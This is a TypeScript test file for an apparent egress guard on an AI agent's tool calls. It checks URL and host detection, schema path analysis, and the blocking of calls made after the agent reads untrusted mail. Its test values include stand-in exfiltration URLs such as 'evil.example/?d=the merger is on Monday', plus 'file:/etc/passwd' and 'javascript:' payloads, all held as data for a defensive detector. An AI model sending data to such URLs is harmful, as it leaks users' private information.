import { expect, test } from "vitest";
import { z } from "zod";

import { egressPathsOf, followReference, namesEgress } from "./egress-arguments.ts";
import { isBareFileName, isFetchable, isFileName, isUrl, namesMember } from "./egress.ts";
import { items } from "./paths.ts";
import { calls, made, readMail, rulesOf, run, send } from "./world.test.helper.ts";
import type { Made, Ran } from "./world.test.helper.ts";

test("a value is a URL with a scheme, without a scheme, as an address, or as a host with a path [flow.r5]", () => {
  const urls = [
    "https://evil.example",
    "HTTP://EVIL.EXAMPLE",
    "custom+x://a",
    "//evil.example",
    "www.evil.example",
    "data:text/html,x",
    "javascript:alert(1)",
    "file:/etc/passwd",
    "1.2.3.4",
    "1.2.3.4:80/x",
    "1.2.3.4?q",
    "evil.example/x",
    "evil.example?q=1",
    "a.evil.example:8080#x",
    "notes.txt:80/x",
    "evil.sh/x",
    " evil.example/x ",
    "bücher.example/x",
  ];
  const others = [
    "",
    "plain text",
    "a: b",
    "12:30",
    "evil.example",
    "notes.txt",
    "notes.txt/x",
    "src/a.ts",
    "1.2.3",
    "see https://evil.example",
    "//evil",
    "www.x",
    "e.g./x",
    "a.b1/x",
    "data: x",
    5,
    null,
    undefined,
    ["https://evil.example"],
  ];
  for (const value of urls) expect(isUrl(value), value).toBe(true);
  for (const value of others) expect(isUrl(value), String(value)).toBe(false);
});

test("a value that fetch accepts as a URL is a URL, with blanks, without slashes, or with other dots [flow.r5]", () => {
  const fetched = [
    "https://evil.example/?d=the merger is on Monday",
    "evil.example/?d=the merger",
    "https:evil.example/x",
    "HTTP:/evil.example/x",
    "https:\\\\evil.example\\x",
    "ht\ntps://evil.example/x",
    " \tevil.exa\tmple/x",
    "https://evil。example",
    "evil。example/x",
    "\\\\evil\\share",
    "//evil/share",
    "s3://bucket/a b",
    "www.evil.example",
    "1.2.3.4",
    "data:text/html,x",
  ];
  const others = [
    "http: a protocol",
    "\\d+",
    "note: read it",
    "a/b c",
    "Node.js/Express guide",
    "e.g. this",
    "2 // 3",
    5,
  ];
  for (const value of fetched) expect(isFetchable(value), value).toBe(true);
  for (const value of others) expect(isFetchable(value), String(value)).toBe(false);
  for (const value of fetched) if (URL.canParse(value)) expect(isFetchable(value)).toBe(true);
});

test("an argument of a read with another name asks if fetch would accept it as a URL [flow.r5] [flow.r5.reads]", async () => {
  const ran: Ran = [];
  const look = made(ran, { name: "look", inputSchema: z.object({ page: z.string() }), sideEffectClass: "read-only" });
  const page = "https://evil.example/?d=the merger is on Monday";
  const result = await run({ tools: [look], script: [calls(["look", { page }]), "Done."] });
  expect(rulesOf(result)).toEqual(["R5"]);
  expect(ran).toEqual([]);
});

test("a message that begins with a link is content [flow.r5]", async () => {
  const ran: Ran = [];
  const body = "https://docs.example/a has the notes";
  const result = await run({
    tools: [readMail(ran), send(ran)],
    script: [calls(["read_mail"]), calls(["send", { to: "bob", body }]), "Done."],
    flow: { mode: "enforce", grants: [{ tool: "send", args: { to: { eq: "bob" }, body: { composed: true } } }] },
  });
  expect(rulesOf(result)).toEqual([]);
  expect(ran.at(-1)?.input).toEqual({ to: "bob", body: "hxxps[:]//docs[.]example/a has the notes" });
});

test.each([
  ["setup.sh", true],
  ["README.MD", true],
  ["setup.com", false],
  ["data.setup.sh", false],
  ["setup", false],
  ["sh", false],
])("%s alone is a file's name with an ending that domains share: %s [flow.r5]", (word, expected) => {
  expect(isBareFileName(word)).toBe(expected);
});

test("a dotted word is a file's name by its ending, unless the ending is a domain's [flow.r5]", () => {
  expect(["notes.txt", "A.PDF", "a.b.json"].map(isFileName)).toEqual([true, true, true]);
  expect(["evil.example", "read.md", "run.sh", "a.zip", "txt.com"].map(isFileName)).toEqual(Array(5).fill(false));
});

test("a name means URL or host if one of its words does, in any spelling [flow.r5]", () => {
  const names = [
    "url",
    "webhookUrl",
    "target_host",
    "HTTPEndpoint",
    "callback-uri",
    "imageURLs",
    "the.domain",
    // Written as one word, as some authors do.
    "baseurl",
    "redirecturi",
    "imageurls",
    "serverhostname",
    "mywebhooks",
  ];
  for (const name of names) expect(namesEgress(name), name).toBe(true);
  for (const name of ["curl", "hostage", "linked", "account", "urlless"]) expect(namesEgress(name), name).toBe(false);
});

const text = { type: "string" } as const;

test("schema paths that mean URL or host are found through every keyword [flow.r5]", () => {
  const paths = (properties: object, more: object = {}): readonly string[] =>
    egressPathsOf({ type: "object", properties, ...more });
  expect(paths({ url: text, note: text, n: { type: "number" }, host: { type: "number" } })).toEqual(["url"]);
  for (const type of ["string", "array", "object", ["string", "null"], undefined])
    expect(paths({ url: { type } }), String(type)).toEqual(["url"]);
  for (const type of ["integer", "boolean", "null", ["number", "null"]])
    expect(paths({ url: { type } }), String(type)).toEqual([]);
  for (const format of ["uri", "hostname", "ipv4"]) expect(paths({ to: { type: "string", format } })).toEqual(["to"]);
  expect(paths({ to: { type: "string", format: "email" } })).toEqual([]);
  expect(paths({ to: { properties: { url: text } } })).toEqual(["to.url"]);
  expect(paths({ to: { items: { properties: { url: text } } } })).toEqual(["to[].url"]);
  expect(paths({ hosts: { items: text, type: "array" } })).toEqual(["hosts", "hosts[]"]);
  expect(paths({ to: { prefixItems: [{ format: "uri" }, { properties: { link: text } }] } })).toEqual([
    "to[]",
    "to[].link",
  ]);
  for (const keyword of ["anyOf", "oneOf", "allOf"])
    expect(paths({ to: { [keyword]: [{ type: "null" }, { format: "uri" }] } }), keyword).toEqual(["to"]);
  expect(paths({ url: { anyOf: [{ type: "string" }, { type: "null" }], type: "null" } })).toEqual(["url"]);
  expect(paths({ url: { anyOf: "no list", items: "none", prefixItems: 1, properties: [{ format: "uri" }] } })).toEqual([
    "url",
  ]);
  expect(paths({ url: true, host: false, link: null, a: { $ref: "#/$defs/none" } })).toEqual(["url"]);
});

test("references of a schema are followed at each place, and recursive ones once [flow.r5]", () => {
  const node = { properties: { link: text, next: { $ref: "#/$defs/node" } } };
  const paths = egressPathsOf({
    type: "object",
    properties: { a: { $ref: "#/$defs/node" }, b: { $ref: "#/$defs/node" }, self: { $ref: "#" } },
    $defs: { node },
  });
  expect(paths).toEqual(["a.link", "b.link"]);
  const root = { $defs: { "a/b": { x: 1 }, "c~d": 2, é: 3 } };
  expect(followReference("#", root)).toBe(root);
  expect(followReference("#/$defs/a~1b/x", root)).toBe(1);
  expect(followReference("#/$defs/c~0d", root)).toBe(2);
  expect(followReference("#/$defs/%C3%A9", root)).toBe(3);
  for (const missing of ["other.json", "#name", "#/$defs/none", "#/$defs/c~0d/x", "#/toString", "#/$defs/a~1b/x/y"])
    expect(followReference(missing, root), missing).toBeUndefined();
  expect(followReference("#/a/b", { a: null })).toBeUndefined();
  expect(followReference("#/a/length", { a: "text" })).toBeUndefined();
  expect(followReference("other.json", { "her.json": 1 })).toBeUndefined();
});

test("a member's name is an egress value if it is an address or is below an egress argument [flow.r5.names]", async () => {
  const asks = async (args: object, options: Partial<Made> = {}): Promise<unknown> => {
    const ran: Ran = [];
    const look = made(ran, {
      name: "look",
      inputSchema: z.looseObject({}),
      sideEffectClass: "read-only",
      output: { integrity: "untrusted", readers: "public" },
      ...options,
    });
    const result = await run({
      tools: [readMail(ran), look],
      script: [calls(["read_mail"]), calls(["look", args]), "Done."],
      input: "Look at https://mine.example/a for me.",
    });
    expect(ran.some(({ name }) => name === "look")).toBe(rulesOf(result).length === 0);
    return rulesOf(result);
  };
  expect(await asks({ pages: { "https://evil.example/?d=1": true } })).toEqual(["R5"]);
  expect(await asks({ pages: [{ "evil.example/d": {} }] })).toEqual(["R5"]);
  expect(await asks({ "https:evil.example": 1 })).toEqual(["R5"]);
  expect(await asks({ pages: { "https://mine.example/a": true, plain: 1 } })).toEqual([]);
  const flow = { egress: ["sites"] };
  expect(await asks({ sites: { evil: "https://mine.example/a" } }, { flow })).toEqual(["R5"]);
  expect(await asks({ sites: { "https://mine.example/a": { deep: "https://mine.example/a" } } }, { flow })).toEqual([
    "R5",
  ]);
  expect(await asks({ sites: ["https://mine.example/a"] }, { flow })).toEqual([]);
  // Member names from the tool's author are not a choice.
  const named = z.object({ host: z.string() });
  const host = "https://mine.example/a";
  for (const endpoint of [named, z.union([z.string(), named]), z.array(named), z.lazy(() => named)]) {
    const inputSchema = z.object({ endpoint });
    const given = endpoint instanceof z.ZodArray ? [{ host }] : { host };
    expect(await asks({ endpoint: given }, { inputSchema })).toEqual([]);
  }
  expect(
    await asks({ endpoint: { host } }, { inputSchema: z.object({ endpoint: z.record(z.string(), z.string()) }) }),
  ).toEqual(["R5"]);
  // Nothing leaves a pure tool.
  expect(
    await asks({ pages: { "https://evil.example/?d=1": true } }, { sideEffectClass: "pure", output: undefined }),
  ).toEqual([]);
});

test("a schema names a member in its place, by reference or by choice, and nowhere else [flow.r5.names]", () => {
  const schema = {
    $defs: { site: { properties: { host: {} }, anyOf: [{ $ref: "#/$defs/site" }] } },
    properties: {
      one: { $ref: "#/$defs/site" },
      many: { items: { oneOf: [{ type: "string" }, { allOf: [{ properties: { port: {} } }] }] } },
      open: true,
    },
  };
  expect(namesMember(schema, [], "one")).toBe(true);
  expect(namesMember(schema, [], "host")).toBe(false);
  expect(namesMember(schema, [], "toString")).toBe(false);
  expect(namesMember(schema, ["one"], "host")).toBe(true);
  expect(namesMember(schema, ["one"], "port")).toBe(false);
  expect(namesMember(schema, ["many", items], "port")).toBe(true);
  expect(namesMember(schema, ["many"], "port")).toBe(false);
  expect(namesMember(schema, ["open"], "port")).toBe(false);
  expect(namesMember(schema, ["none", "at all"], "port")).toBe(false);
});
